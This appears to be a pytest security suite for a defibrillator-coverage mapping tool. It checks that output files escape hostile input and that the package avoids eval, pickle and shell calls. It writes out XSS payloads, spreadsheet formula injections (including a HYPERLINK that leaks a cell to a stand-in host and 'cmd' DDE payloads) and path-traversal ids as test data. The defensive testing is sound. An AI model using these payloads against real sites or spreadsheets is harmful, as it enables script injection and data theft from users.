"""Security: hostile text in inputs, formula injection, where files are read and written.

A study on the shipped Leeds extract whose every name, id, kind and source is an attack
(script tags, attribute breakouts, Jinja and JavaScript template syntax, spreadsheet formulas)
is run through the command line; the real output files are then checked: no payload reaches
``map.html`` (or ``report.html``) unescaped, and no CSV or Excel cell starts a formula.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import importlib
import json
from pathlib import Path

import pytest

import defibmap
from defibmap.cli import main
from defibmap.outputs._html import esc

REPO = Path(__file__).resolve().parents[2]
LEEDS = REPO / "data" / "leeds"
PACKAGE = REPO / "defibmap"

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}",
    "`${alert(1)}`",
    "${x}",
    "</script><script>alert(2)</script>",
    "<svg onload=alert(3)>",
    "'-alert(4)-'",
    "{% for x in y %}x{% endfor %}",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
]
SCHOOL = ("school", "indoor")
RISKY_START = ("=", "+", "-", "@", "\t", "\r")
# raw markup a clean map also holds; the attack map must hold exactly as many of each
TOKENS = ("<script", "</script", "<img", "<svg", "{{", "{%", "${", "`$")


def _write_csv(path: Path, header: list[str], rows: list[list[object]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)


def _read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def make_study(folder: Path, *, hostile: bool) -> Path:
    """A Leeds study with our own layers; ``hostile`` fills every text with attacks."""
    folder.mkdir(parents=True, exist_ok=True)

    def label(i: int, plain: str) -> str:
        return XSS[i % len(XSS)] + f" {i}" if hostile else plain

    def ident(i: int, plain: str, tag: str = "") -> str:
        # tabs and CRs are stripped from the ends of ids, so put one before a formula
        attacks = [*FORMULAS, "\t=2+3", "\r=4+5"]
        return attacks[i % len(attacks)] + f" #{tag}{i}" if hostile and i < 12 else plain

    demand = _read_rows(LEEDS / "lsoa21_demand.csv")
    rows = [
        [ident(i, r["lsoa21cd"]), label(i, r["lsoa21nm"]), r["population"], r["lon"], r["lat"]]
        for i, r in enumerate(demand)
    ]
    rows.append([ident(0, "swapped") + " (swapped)", label(1, "Swapped"), "10", "53.82", "-1.52"])
    _write_csv(folder / "demand.csv", ["id", "name", "population", "lon", "lat"], rows)
    schools = _read_rows(LEEDS / "schools.csv")
    _write_csv(
        folder / "defibs.csv",
        ["site_id", "name", "lon", "lat", "kind", "location"],
        [
            [ident(i + 3, r["site_id"], "d"), label(i + 2, "School"), r["lon"], r["lat"], *SCHOOL]
            for i, r in enumerate(schools)
        ],
    )
    candidates = _read_rows(LEEDS / "candidates.csv")
    _write_csv(
        folder / "candidates.csv",
        ["site_id", "name", "kind", "lon", "lat"],
        [
            [
                ident(i + 1, r["site_id"], "c"),
                label(i + 4, r["name"]),
                label(i, r["kind"]),
                r["lon"],
                r["lat"],
            ]
            for i, r in enumerate(candidates)
        ],
    )
    police = _read_rows(LEEDS / "police_stations.csv")
    _write_csv(
        folder / "police.csv",
        ["site_id", "name", "easting", "northing"],
        [
            [ident(i + 6, r["site_id"], "p"), label(i, r["name"]), r["easting"], r["northing"]]
            for i, r in enumerate(police)
        ],
    )
    text = {
        "name": XSS[0] + " " + XSS[2] if hostile else "Clean study",
        "description": XSS[1] if hostile else "A study",
        "source": XSS[3] if hostile else "ONS",
        "licence": XSS[5] if hostile else "OGL",
    }
    toml = {k: json.dumps(v) for k, v in text.items()}  # a JSON string is a TOML basic string
    study = folder / "study.toml"
    study.write_text(
        f"[study]\nname = {toml['name']}\ndescription = {toml['description']}\n"
        f'[network]\nosm_file = "{(LEEDS / "leeds_inner_ne.osm.bz2").as_posix()}"\n'
        f"source = {toml['source']}\nlicence = {toml['licence']}\n"
        '[demand]\nfile = "demand.csv"\nid = "id"\npopulation = "population"\n'
        f"source = {toml['source']}\nlicence = {toml['licence']}\n"
        '[defibs]\nfile = "defibs.csv"\nid = "site_id"\n'
        '[police_stations]\nfile = "police.csv"\nid = "site_id"\noutside_defib = true\n'
        '[candidates]\nfile = "candidates.csv"\nid = "site_id"\n'
        "[ranking]\nnew_sites = 5\n"
    )
    return study


def sha_tree(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    """The hostile and the clean study, each run through the command line."""
    root = tmp_path_factory.mktemp("security")
    out = {}
    for kind in ("clean", "hostile"):
        study = make_study(root / f"{kind}-inputs", hostile=kind == "hostile")
        before = sha_tree(study.parent)
        assert main(["run", "--config", str(study), "--out", str(root / kind)]) == 0
        assert sha_tree(study.parent) == before  # inputs untouched, nothing written beside
        out[kind] = root / kind
    out["study"] = root / "hostile-inputs" / "study.toml"
    out["clean_study"] = root / "clean-inputs" / "study.toml"
    return out


def test_map_holds_no_payload_unescaped(runs):
    page = (runs["hostile"] / "map.html").read_text(encoding="utf-8")
    for payload in XSS:
        assert payload not in page, payload
        assert esc(payload) in page, f"{payload!r} never reached the map"
    assert "<img src=x" not in page
    assert "&#123;&#123;7*7&#125;&#125;" in page  # the template was not run (no "49")


def test_map_has_no_more_markup_than_a_clean_one(runs):
    hostile = (runs["hostile"] / "map.html").read_text(encoding="utf-8").lower()
    clean = (runs["clean"] / "map.html").read_text(encoding="utf-8").lower()
    for token in TOKENS:
        assert hostile.count(token) == clean.count(token), token


def output(runs, kind: str, name: str, write: str) -> Path:
    """An output file of the run, or (for a writer the run does not call) one written now."""
    path = runs[kind] / name
    if not path.exists():
        module_name, function = write.rsplit(".", maxsplit=1)
        module = importlib.import_module(f"defibmap.{module_name}")
        result = defibmap.run_study(runs["study"] if kind == "hostile" else runs["clean_study"])
        getattr(module, function)(result, path)
    return path


def test_report_holds_no_payload_unescaped(runs):
    page = output(runs, "hostile", "report.html", "outputs.report.write_report").read_text("utf-8")
    for payload in XSS:
        assert payload not in page, payload
    assert "<img src=x" not in page
    assert "<svg onload" not in page
    clean = output(runs, "clean", "report.html", "outputs.report.write_report").read_text("utf-8")
    for token in TOKENS:
        assert page.lower().count(token) == clean.lower().count(token), token


def _risky(cell: str) -> bool:
    if not cell.startswith(RISKY_START):
        return False
    try:
        float(cell)  # a negative number is a number, not a formula
    except ValueError:
        return True
    return False


def test_csv_outputs_neutralise_formulas(runs):
    seen: set[str] = set()
    for path in sorted(runs["hostile"].glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not _risky(cell), f"{path.name}: {cell!r} would run as a formula"
                    if cell.startswith("'"):
                        seen.add(cell[1:])
    # every attack reached a CSV, prefixed with ' (tab/CR-led ids lost their whitespace)
    for formula in [*FORMULAS, "=2+3", "=4+5"]:
        assert any(s.startswith(formula) for s in seen), formula
    demand = _read_rows(runs["hostile"] / "demand_coverage.csv")
    assert any(r["demand_id"] == "'-1+1 #2" for r in demand)
    assert any(r["nearest_defib_id"].startswith("'") for r in demand)
    rejected = _read_rows(runs["hostile"] / "rejected.csv")
    assert [r["reason"] for r in rejected if r["id"].endswith("(swapped)")] == ["lat/lon swapped"]
    assert all(r["id"].startswith("'") for r in rejected if "(swapped)" in r["id"])
    recs = _read_rows(runs["hostile"] / "recommendations.csv")
    assert sum(r["site_id"].startswith("'") for r in recs) >= 3


def test_summary_keeps_the_text_exactly(runs):
    summary = json.loads((runs["hostile"] / "summary.json").read_text(encoding="utf-8"))
    assert summary["study"] == XSS[0] + " " + XSS[2]
    assert summary["inputs"]["demand"]["rejected_reasons"] == {"lat/lon swapped": 1}


def test_excel_workbook_has_no_formulas(runs):
    from openpyxl import load_workbook

    path = output(runs, "hostile", "recommendations.xlsx", "outputs.workbook.write_workbook")
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if _risky(t)]
    # the candidates' ids (+cmd, -1+1, @SUM, =1+2) are in the ranked sheet, neutralised
    assert {t[1] for t in texts if t.startswith("'") and len(t) > 1} >= {"+", "-", "@", "="}


# ---------------------------------------------------------------------------------------------
# Where a study reads and writes
# ---------------------------------------------------------------------------------------------

SMALL_OSM = """<?xml version="1.0" encoding="UTF-8"?>
<osm version="0.6">
<node id="1" lat="53.8100000" lon="-1.5300000"/>
<node id="2" lat="53.8100000" lon="-1.5270000"/>
<node id="3" lat="53.8120000" lon="-1.5270000"/>
<way id="1"><nd ref="1"/><nd ref="2"/><nd ref="3"/><tag k="highway" v="footway"/></way>
</osm>
"""
DEMAND = "id,lon,lat,pop\na,-1.5285,53.8101,{pop}\n"


@pytest.fixture
def layout(tmp_path, monkeypatch):
    """tmp/project/studies/s.toml reading ../data/..., a decoy tree in the working folder."""
    project = tmp_path / "project"
    (project / "studies").mkdir(parents=True)
    (project / "data").mkdir()
    (project / "data" / "town.osm").write_text(SMALL_OSM)
    (project / "data" / "demand.csv").write_text(DEMAND.format(pop=111))
    cwd = tmp_path / "cwd"
    (cwd / "data").mkdir(parents=True)
    (cwd / "data" / "demand.csv").write_text(DEMAND.format(pop=999))  # must never be read
    (cwd / "demand.csv").write_text(DEMAND.format(pop=999))
    monkeypatch.chdir(cwd)
    monkeypatch.setenv("DEFIBMAP_CACHE_DIR", str(tmp_path / "cache"))
    return project


def _study(project: Path, demand: str, *, name: str = "paths") -> Path:
    path = project / "studies" / "s.toml"
    path.write_text(
        f"[study]\nname = {json.dumps(name)}\n"
        '[network]\nosm_file = "../data/town.osm"\n'
        f'[demand]\nfile = {json.dumps(demand)}\nid = "id"\npopulation = "pop"\n'
        "[ranking]\nnew_sites = 0\n"
    )
    return path


def test_relative_paths_follow_the_study_file_not_the_working_folder(layout):
    result = defibmap.run_study(_study(layout, "../data/demand.csv"))
    assert result.population_total == 111
    assert result.network.source == "town.osm"


def test_absolute_paths_and_symlinks_are_honoured(layout, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "people.csv").write_text(DEMAND.format(pop=222))
    result = defibmap.run_study(_study(layout, str(elsewhere / "people.csv")))
    assert result.population_total == 222
    link = layout / "studies" / "people.csv"
    link.symlink_to(elsewhere / "people.csv")
    result = defibmap.run_study(_study(layout, "people.csv"))
    assert result.population_total == 222
    assert link.is_symlink()
    assert (elsewhere / "people.csv").read_text() == DEMAND.format(pop=222)


def test_dot_dot_goes_exactly_where_the_file_says(layout):
    # "../../cwd/demand.csv" from project/studies is tmp/cwd/demand.csv: named, so honoured
    result = defibmap.run_study(_study(layout, "../../cwd/demand.csv"))
    assert result.population_total == 999
    with pytest.raises(defibmap.ConfigError, match=r"no such file"):
        defibmap.load_study(_study(layout, "../../../nowhere/demand.csv"))


def test_nothing_is_written_beside_the_inputs_or_in_the_working_folder(layout, tmp_path):
    hostile_name = "../../../pwned/<x>"
    study = _study(layout, "../data/demand.csv", name=hostile_name)
    before = sha_tree(tmp_path)
    out = tmp_path / "out"
    assert main(["run", "--config", str(study), "--out", str(out)]) == 0
    after = sha_tree(tmp_path)
    new = {p for p in after if p not in before}
    changed = {p for p in before if before[p] != after.get(p)}
    assert not changed
    assert {Path(p).parts[0] for p in new} == {"out", "cache"}
    assert not (tmp_path / "pwned").exists()
    # without --out the folder is outputs/<study file name> in the working folder, never a
    # path made from the study's name
    assert main(["run", "--config", str(study)]) == 0
    assert sorted(p.name for p in Path().iterdir()) == ["data", "demand.csv", "outputs"]
    assert [p.name for p in Path("outputs").iterdir()] == ["s"]


def test_ids_that_look_like_paths_stay_text(layout, tmp_path):
    (layout / "data" / "demand.csv").write_text(
        "id,lon,lat,pop\n../../../../tmp/evil,-1.5285,53.8101,5\n/etc/passwd,-1.528,53.8101,5\n"
    )
    out = tmp_path / "out"
    assert (
        main(["run", "--config", str(_study(layout, "../data/demand.csv")), "--out", str(out)]) == 0
    )
    ids = {r["demand_id"] for r in _read_rows(out / "demand_coverage.csv")}
    assert ids == {"../../../../tmp/evil", "/etc/passwd"}
    made = [str(p) for p in tmp_path.parent.rglob("*") if "evil" in p.name or "passwd" in p.name]
    assert made == []


# ---------------------------------------------------------------------------------------------
# No eval, exec or pickle of outside data
# ---------------------------------------------------------------------------------------------

BANNED_CALLS = {"eval", "exec", "compile", "__import__", "execfile"}
BANNED_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "joblib", "cloudpickle"}


def _calls(tree: ast.AST) -> list[ast.Call]:
    return [node for node in ast.walk(tree) if isinstance(node, ast.Call)]


def _name(func: ast.expr) -> str:
    if isinstance(func, ast.Name):
        return func.id
    if isinstance(func, ast.Attribute):
        return f"{_name(func.value)}.{func.attr}"
    return ""


SOURCES = sorted(PACKAGE.rglob("*.py"))


def problems(tree: ast.AST) -> list[str]:
    """Every use of eval/exec, pickle-like modules, shell commands or pickle-enabled np.load."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
            found += [n for n in names if n.split(".")[0] in BANNED_MODULES]
    for call in _calls(tree):
        name = _name(call.func)
        keywords = {k.arg: k.value for k in call.keywords}
        if name in BANNED_CALLS or name in {"os.system", "os.popen", "yaml.load"}:
            found.append(name)
        if name.endswith(("read_pickle", "to_pickle")) or name.split(".")[0] in BANNED_MODULES:
            found.append(name)
        if name in {"np.load", "numpy.load"}:
            flag = keywords.get("allow_pickle")
            if not (isinstance(flag, ast.Constant) and flag.value is False):
                found.append("np.load without allow_pickle=False")
        if name.startswith("subprocess.") and "shell" in keywords:
            flag = keywords["shell"]
            if not (isinstance(flag, ast.Constant) and flag.value is False):
                found.append(f"{name}(shell=...)")
    return found


@pytest.mark.parametrize("path", SOURCES, ids=[p.name for p in SOURCES])
def test_no_eval_exec_or_pickle_in_the_package(path):
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    assert not problems(tree), f"{path.name}: {problems(tree)}"


def test_the_scan_finds_what_it_looks_for():
    bad = (
        "import pickle\nimport numpy as np\nimport subprocess\neval('1')\nexec('x = 1')\n"
        "np.load('x.npy')\nnp.load('y', allow_pickle=True)\nnp.load('z', allow_pickle=False)\n"
        "pd.read_pickle('p')\nsubprocess.run('ls', shell=True)\n"
    )
    assert problems(ast.parse(bad)) == [
        "pickle",
        "eval",
        "exec",
        "np.load without allow_pickle=False",
        "np.load without allow_pickle=False",
        "pd.read_pickle",
        "subprocess.run(shell=...)",
    ]


@pytest.mark.parametrize("name", ["../studies/leeds", "leeds/../leeds", "/etc/passwd", ".hidden"])
def test_a_study_name_cannot_reach_outside_the_shipped_studies(name):
    from defibmap._errors import ConfigError
    from defibmap._resources import study_path

    with pytest.raises(ConfigError, match="not a shipped study name"):
        study_path(name)
